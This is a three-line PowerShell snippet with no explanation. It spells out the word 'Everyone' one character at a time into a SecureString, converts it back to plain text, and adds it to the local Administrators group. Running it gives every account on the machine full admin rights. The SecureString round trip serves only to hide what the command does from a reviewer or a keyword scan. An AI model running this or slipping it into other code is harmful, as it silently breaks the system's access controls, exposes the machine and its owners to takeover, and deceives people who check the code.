$secure = [Security.SecureString]::new()
'Everyone'.ToCharArray() | ForEach-Object { $secure.AppendChar($_) }
Add-LocalGroupMember Administrators ([Net.NetworkCredential]::new('', $secure).Password)
